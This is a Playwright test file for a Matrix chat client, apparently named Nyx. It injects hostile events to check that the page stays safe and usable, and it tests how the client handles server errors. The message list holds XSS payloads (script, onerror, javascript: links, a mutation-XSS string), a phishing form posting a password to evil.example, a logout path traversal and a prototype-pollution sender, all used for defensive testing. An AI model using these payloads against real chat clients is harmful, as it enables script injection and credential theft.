/**
 * Bad input: what other people, other clients and a bad server can put before the app. The page stays usable, says what
 * happened, and offers the next step; one bad room never stops the others.
 */
import { afterAll, beforeAll, describe, expect, it, onTestFailed } from 'vitest';
import type { Browser, Page, Route } from 'playwright-core';
import type { Demo } from '@nyx/homeserver/demo/start-demo.ts';
import { startDemo } from '@nyx/homeserver/demo/start-demo.ts';
import {
  closePanel,
  composer,
  createRoom,
  describePages,
  message,
  newPage,
  newPerson,
  openPanel,
  openRoom,
  say,
  sees,
  sendFiles,
  signUp,
} from './app-driver.ts';
import type { Person } from './app-driver.ts';
import { chromiumPath, launch } from './browser.ts';
import { png } from './picture.ts';

type Json = Record<string, unknown>;

const patient = 300_000;
const soon = { timeout: 60_000 };

let demo: Demo;
let browser: Browser;

beforeAll(async () => {
  if (chromiumPath === undefined) return;
  demo = await startDemo({ report: () => undefined, env: { NYX_RATE_LIMITS: 'off' } });
  browser = await launch();
}, patient);

afterAll(async () => {
  if (chromiumPath === undefined) return;
  await browser.close();
  await demo[Symbol.asyncDispose]();
}, patient);

let events = 0;
const event = (content: unknown, more: Json = {}): Json => ({
  event_id: `$hostile${++events}`,
  type: 'm.room.message',
  sender: '@mallory:evil.example',
  origin_server_ts: 1_700_000_000_000 + events,
  content,
  ...more,
});
const html = (formatted: string, body = 'plain'): Json =>
  event({ msgtype: 'm.text', body, format: 'org.matrix.custom.html', formatted_body: formatted });
const state = (type: string, content: unknown, key = ''): Json => event(content, { type, state_key: key });

const rtl = '\u202egnp.exe\u202c';
const giant = 'Ω'.repeat(100_000);

/** Everything a message can do to a page that trusts it. */
const hostileMessages = (): Json[] => [
  html('<img src=x onerror="window.pwned=1"><script>window.pwned=2</script>'),
  html(
    '<svg><a xlink:href="javascript:window.pwned=3"><text>x</text></a></svg><iframe srcdoc="<script>parent.pwned=4</script>"></iframe>',
  ),
  html(
    '<a href="javascript:window.pwned=5">click me</a> <a href="data:text/html,<script>1</script>">me too</a>',
  ),
  html('<form action="https://evil.example"><input name="password"><button>Sign in</button></form>'),
  html(
    '<style>* { display: none !important }</style><p style="position:fixed;inset:0;z-index:9999">cover</p>',
  ),
  html('<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=6">'),
  html('<b>'.repeat(20_000) + 'deep'),
  html('<br>'.repeat(20_000) + 'tall'),
  html('<p>x</p>'.repeat(20_000)),
  html(`<font data-mx-color="#ffffff" data-mx-bg-color="#ffffff">invisible</font>`),
  html('<span data-mx-spoiler="&lt;img src=x onerror=window.pwned=7&gt;">covered</span>'),
  html(`<a href="https://matrix.to/#/%40mallory%3Aevil.example">${giant}</a>`),
  event({ msgtype: 'm.text', body: '\n'.repeat(30_000) + 'bottom' }),
  event({ msgtype: 'm.text', body: giant }),
  event({ msgtype: 'm.text', body: `file ${rtl} and ${'a\u0300'.repeat(5_000)}` }),
  event({ msgtype: 'm.text', body: '> '.repeat(10_000) + 'quoted' }),
  event({
    msgtype: 'm.image',
    body: 'x.svg',
    url: 'https://evil.example/tracker.svg',
    info: { w: 1e308, h: -5, mimetype: 'image/svg+xml' },
  }),
  event({
    msgtype: 'm.image',
    body: '<b>x</b>',
    url: 'mxc://evil.example/../../../_matrix/client/v3/logout',
    info: 'none',
  }),
  event({
    msgtype: 'm.image',
    body: 'hash',
    info: { w: 1, h: 100_000, 'xyz.amorgan.blurhash': '~'.repeat(60) },
  }),
  event({ msgtype: 'm.video', body: 5, file: { url: 7 } }),
  event({
    msgtype: 'm.audio',
    body: {},
    info: { duration: 'long' },
    'org.matrix.msc1767.audio': { waveform: [{}, 'x'] },
  }),
  event({ msgtype: 'm.file', body: rtl, filename: giant }),
  event({ msgtype: { a: 1 }, body: ['x'] }),
  event({}),
  event({ question: 1, answers: 'none' }, { type: 'org.matrix.msc3381.poll.start' }),
  event(
    {
      'org.matrix.msc3381.poll.start': {
        question: { body: giant },
        answers: Array(500).fill({ id: 'same', body: 'x' }),
        max_selections: 1e9,
      },
    },
    { type: 'org.matrix.msc3381.poll.start' },
  ),
  event({ algorithm: 'm.megolm.v1.aes-sha2', ciphertext: 7 }, { type: 'm.room.encrypted' }),
  event({ algorithm: 'NS.epoch.v1', ciphertext: '!!', kid: [], g: -1 }, { type: 'm.room.encrypted' }),
  event({ 'm.relates_to': { rel_type: 'm.replace', event_id: '$hostile1' }, 'm.new_content': 'x' }),
  event({ 'm.relates_to': { 'm.in_reply_to': { event_id: 5 } }, body: 'reply', msgtype: 'm.text' }),
  ...Array.from({ length: 80 }, (_, n) =>
    event(
      {
        'm.relates_to': {
          rel_type: 'm.annotation',
          event_id: '$hostile1',
          key: `${giant.slice(0, 200)}${n}`,
        },
      },
      { type: 'm.reaction' },
    ),
  ),
  event({ body: 'constructor', msgtype: 'm.text' }, { sender: '__proto__' }),
  event(
    { membership: 'join', displayname: giant, avatar_url: 'javascript:1' },
    { type: 'm.room.member', state_key: '@mallory:evil.example' },
  ),
  event(
    { membership: 'join', displayname: { toString: 1 } },
    { type: 'm.room.member', state_key: '@odd:evil.example' },
  ),
  event(
    { membership: 'join', displayname: `alice${rtl}` },
    { type: 'm.room.member', state_key: '@rtl:evil.example' },
  ),
  // Not events at all.
  5 as unknown as Json,
  null as unknown as Json,
  { type: 'm.room.message' },
  event('a string', {}),
  event({ body: 'no time', msgtype: 'm.text' }, { origin_server_ts: 'yesterday' }),
  event({ body: 'far', msgtype: 'm.text' }, { origin_server_ts: 8.7e15 }),
  event({ body: 'negative', msgtype: 'm.text' }, { origin_server_ts: -1e15 }),
  event({ msgtype: 'm.text', body: 'the last hostile message' }),
];

const hostileRooms = (): Json => ({
  '!hostile:evil.example': {
    state: {
      events: [
        state('m.room.create', { room_version: '11' }),
        state('m.room.name', { name: `Hostile ${rtl}${giant}` }),
        state('m.room.topic', { topic: giant }),
      ],
    },
    timeline: { events: hostileMessages(), limited: 'maybe', prev_batch: 'p' },
    unread_notifications: { notification_count: 'many', highlight_count: -3 },
    summary: { 'm.heroes': 'nobody', 'm.joined_member_count': 1e300 },
    ephemeral: {
      events: [
        { type: 'm.typing', content: { user_ids: [5, giant] } },
        { type: 'm.receipt', content: { $x: { 'm.read': 'all' } } },
      ],
    },
    account_data: { events: [{ type: 'm.tag', content: { tags: [1, 2] } }, 'x'] },
  },
  '!broken:evil.example': { timeline: 'none', state: 7 },
  '!null:evil.example': null,
  'not a room': { timeline: { events: [event({ body: 'x' })] } },
});

/** The socket is out of the way: these tests change what `/sync` answers. */
const withoutSocket = (page: Page): Promise<void> =>
  page.routeWebSocket(/chat\.nyx\.socket/, (socket) => socket.close({ code: 4000 }));

const untouched = async ({ page, faults }: Person): Promise<void> => {
  expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBe(undefined);
  expect(new URL(page.url()).origin).toBe(new URL(demo.servers[0].url).origin);
  expect(await page.getByText('Something went wrong in Nyx.').count()).toBe(0);
  expect(faults.filter((fault) => fault.startsWith('page:'))).toEqual([]);
};

describe.skipIf(chromiumPath === undefined)('bad input', () => {
  it(
    'stays usable with a room full of hostile events, and other rooms go on',
    async () => {
      const asked: string[] = [];
      const [server] = demo.servers;
      const person = await newPerson(browser, server, 'victim', {}, async (context) => {
        context.on('request', (request) => asked.push(request.url()));
      });
      onTestFailed(async () => console.log(await describePages([person])));
      const { page } = person;
      await createRoom(page, 'Quiet room');
      await say(page, 'before the storm');
      await message(page, 'before the storm').getByRole('img', { name: 'Sent' }).waitFor(soon);
      await withoutSocket(page);
      let injected = false;
      await page.route(/\/_matrix\/client\/v3\/sync\?/, async (route) => {
        const answer = await route.fetch({ timeout: 0 }).catch(() => undefined);
        if (answer === undefined) return route.abort().catch(() => undefined);
        const body = (await answer.json().catch(() => ({}))) as { rooms?: { join?: Json } };
        if (!injected && answer.ok()) {
          injected = true;
          body.rooms = { ...body.rooms, join: { ...hostileRooms(), ...body.rooms?.join } };
        }
        return route.fulfill({ response: answer, json: body }).catch(() => undefined);
      });
      await page.route(/evil\.example\/(messages|members|event)/, (route) =>
        route.fulfill({ status: 500, body: '<h1>no</h1>' }),
      );
      await page.reload();
      await page.getByLabel('Passphrase', { exact: true }).fill('correct horse battery', soon);
      await page.getByRole('button', { name: 'Unlock' }).click();
      const row = page.getByRole('link', { name: /Hostile/ });
      await row.waitFor(soon);
      expect((await row.innerText()).length).toBeLessThan(1_000);
      await row.click();
      await sees(page, 'the last hostile message');
      // Through all of it, upwards: whatever it is, the list goes on and rows stay within reason.
      for (let step = 0; step < 30; step += 1) {
        await page
          .locator('.timeline-list, .scroller')
          .last()
          .evaluate((list) => list.scrollBy(0, -900));
        await page.evaluate(
          () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))),
        );
      }
      const heights = await page
        .locator('.message')
        .evaluateAll((rows) => rows.map((one) => one.getBoundingClientRect().height));
      expect(Math.max(...heights)).toBeLessThan(4_000);
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(1_281);
      await untouched(person);
      // Nothing was fetched from where a message pointed.
      expect(
        asked.filter(
          (url) => !url.startsWith(server.url) && !url.startsWith('blob:') && !url.startsWith('ws'),
        ),
      ).toEqual([]);
      expect(asked.some((url) => url.includes('logout'))).toBe(false);

      await openRoom(page, 'Quiet room');
      await sees(page, 'before the storm');
      await say(page, 'after the storm');
      await message(page, 'after the storm').getByRole('img', { name: 'Sent' }).waitFor(soon);
      await untouched(person);
      await person.context.close();
    },
    patient,
  );

  it(
    'says what went wrong and offers the next step when the server answers badly, at every step',
    async () => {
      const [server] = demo.servers;
      const { page, context, faults } = await newPage(browser);
      onTestFailed(async () => console.log(await describePages([{ page, faults, userId: 'patience' }])));
      await withoutSocket(page);
      /** Answers requests to a path badly, until it is called off. */
      const bad = async (
        path: RegExp,
        how: (route: Route) => Promise<void>,
      ): Promise<() => Promise<void>> => {
        await page.route(path, how);
        return () => page.unroute(path, how);
      };
      const status =
        (code: number, body: Json = {}) =>
        (route: Route) =>
          route.fulfill({ status: code, json: body });

      // A server that is no homeserver, none at all, and one without TLS.
      let calmed = await bad(/versions/, (route) =>
        route.fulfill({ status: 200, body: '<html>welcome</html>' }),
      );
      await page.goto(`${server.url}/#/sign-in`);
      await page.getByText('The server gave an answer Nyx does not understand.').waitFor(soon);
      await calmed();
      await page.getByLabel('Server').fill('http://plain.example');
      await page.getByLabel('Name', { exact: true }).focus();
      await page.getByText('That server does not use a secure address (https).').waitFor(soon);
      await page.getByLabel('Server').fill(new URL(server.url).host);
      await page.getByLabel('Name', { exact: true }).fill('nobody');
      await page.getByLabel('Password', { exact: true }).fill('wrong password');
      await page.getByRole('button', { name: 'Sign in', exact: true }).click();
      await page
        .getByText('The name or password is wrong.')
        .or(page.getByText('You may not do that here.'))
        .first()
        .waitFor(soon);
      for (const [how, words] of [
        [status(500, { errcode: 'M_UNKNOWN', error: '<b>stack trace</b>' }), 'The server has a problem.'],
        [status(429, { errcode: 'M_LIMIT_EXCEEDED', retry_after_ms: 30_000 }), 'Wait 30 seconds'],
        [(route: Route) => route.abort('connectionrefused'), 'The server could not be reached.'],
        [
          (route: Route) => route.fulfill({ status: 200, body: '{"user_id":' }),
          'an answer Nyx does not understand',
        ],
      ] as const) {
        calmed = await bad(/\/v3\/login$/, how);
        await page.getByRole('button', { name: 'Sign in', exact: true }).click();
        await page.getByText(words).first().waitFor(soon);
        await calmed();
      }
      expect(await page.getByText('stack trace').count()).toBe(0);

      await signUp(page, server.url, 'patience');
      await page.getByLabel('Passphrase', { exact: true }).fill('short');
      await page.getByRole('button', { name: 'Protect' }).click();
      await page.getByText('Use at least eight characters.').first().waitFor();
      await page.getByLabel('Passphrase', { exact: true }).fill('correct horse battery');
      await page.getByLabel('Passphrase again').fill('correct horse battery');
      await page.getByRole('button', { name: 'Protect' }).click();
      const items = page.locator('.words li');
      await items.nth(23).waitFor(soon);
      const words = (await items.allTextContents()).map((text) => text.replace(/^\d+/, '').trim());
      await page.getByRole('button', { name: 'I wrote them down' }).click();
      for (const field of await page.getByLabel(/^Word \d+$/).all()) await field.fill('zebra');
      await page.getByRole('button', { name: 'Continue' }).click();
      await page.getByText('At least one is not right.').waitFor(soon);
      for (const field of await page.getByLabel(/^Word \d+$/).all()) {
        const label =
          (await page.locator(`label[for="${await field.getAttribute('id')}"]`).textContent()) ?? '';
        await field.fill(words[Number(label.replace(/\D/g, '')) - 1] ?? '');
      }
      // Keys that cannot be uploaded for now do not stop the way in.
      const keysBack = await bad(/\/keys\/(upload|query)/, status(502));
      await page.getByRole('button', { name: 'Continue' }).click();
      await page.getByRole('heading', { name: 'Conversations', exact: true }).waitFor(soon);

      calmed = await bad(/createRoom/, status(403, { errcode: 'M_FORBIDDEN' }));
      await page.getByRole('button', { name: 'New conversation' }).click();
      await page.getByRole('menuitem', { name: 'Create a room' }).click();
      await page.getByRole('dialog').getByLabel('Name', { exact: true }).fill('Testing ground');
      await page.getByRole('dialog').getByRole('button', { name: 'Create' }).click();
      await page.getByText('You may not do that here.').first().waitFor(soon);
      await calmed();
      await page.getByRole('dialog').getByRole('button', { name: 'Create' }).click();
      await composer(page).waitFor(soon);

      // What is written before this device has an identity waits for it.
      await say(page, 'before the keys');
      await message(page, 'before the keys').getByRole('img', { name: 'Sending' }).waitFor(soon);
      await keysBack();
      await message(page, 'before the keys').getByRole('img', { name: 'Sent' }).waitFor(soon);

      // 5xx: sent by itself once it works. 403: kept, with a way to try again.
      calmed = await bad(/\/send\//, status(503));
      await say(page, 'through the outage');
      await message(page, 'through the outage').getByRole('img', { name: 'Sending' }).waitFor(soon);
      await calmed();
      await message(page, 'through the outage').getByRole('img', { name: 'Sent' }).waitFor(soon);
      calmed = await bad(/\/send\//, status(403, { errcode: 'M_FORBIDDEN' }));
      await say(page, 'refused at first');
      await page.getByText('Not sent.').waitFor(soon);
      await calmed();
      await message(page, 'refused at first').getByRole('button', { name: 'Try again' }).click();
      await message(page, 'refused at first').getByRole('img', { name: 'Sent' }).waitFor(soon);

      calmed = await bad(/\/media\/v3\/upload/, status(413, { errcode: 'M_TOO_LARGE' }));
      await sendFiles(page, [{ name: 'big.png', mimeType: 'image/png', buffer: png(64, 64, 'x') }]);
      await page.getByText('That is too large for this server.').first().waitFor(soon);
      await calmed();
      await page.locator('.uploads').getByRole('button', { name: 'Try again' }).click();
      await page.getByRole('button', { name: 'Open big.png' }).waitFor(soon);

      calmed = await bad(/\/members/, status(500));
      await openPanel(page);
      await page.getByText('The list could not be loaded.').waitFor(soon);
      await calmed();
      await page.getByRole('complementary').getByRole('button', { name: 'Try again' }).click();
      await page.locator('.member').first().waitFor(soon);
      calmed = await bad(/\/invite$|state\/m\.room\.member/, status(404, { errcode: 'M_NOT_FOUND' }));
      await page.getByRole('button', { name: 'Invite people' }).click();
      await page.getByRole('dialog').getByLabel('Name or address').fill('not an address');
      await page.getByRole('dialog').getByRole('button', { name: 'Invite', exact: true }).click();
      await page.getByText('Write the full address').first().waitFor(soon);
      await page.getByRole('dialog').getByLabel('Name or address').fill('@someone:else.example');
      await page.getByRole('dialog').getByRole('button', { name: 'Invite', exact: true }).click();
      await page.getByText('That could not be found.').first().waitFor(soon);
      await calmed();
      await page.keyboard.press('Escape');
      await closePanel(page);

      calmed = await bad(/publicRooms/, status(500));
      await page.goto(`${server.url}/#/explore`);
      await page.getByText('The server has a problem.').first().waitFor(soon);
      await calmed();
      calmed = await bad(/\/v3\/devices$/, (route) =>
        route.fulfill({ status: 200, json: { devices: 'all of them' } }),
      );
      await page.goto(`${server.url}/#/settings/devices`);
      await page.getByText('The server gave an answer Nyx does not understand.').first().waitFor(soon);
      await calmed();
      await page.getByRole('button', { name: 'Try again' }).click();
      await page.getByText('This device').waitFor(soon);

      // Sync itself: garbage, then an outage, and it goes on by itself.
      calmed = await bad(/\/v3\/sync/, (route) => route.fulfill({ status: 200, body: 'not json' }));
      await page.goto(`${server.url}/#/`);
      await page.getByText('The server cannot be reached.').waitFor(soon);
      await calmed();
      await page.getByText('The server cannot be reached.').waitFor({ state: 'hidden', ...soon });
      await openRoom(page, 'Testing ground');
      await sees(page, 'refused at first');
      expect(faults.filter((fault) => fault.startsWith('page:'))).toEqual([]);
      await context.close();
    },
    patient,
  );
});
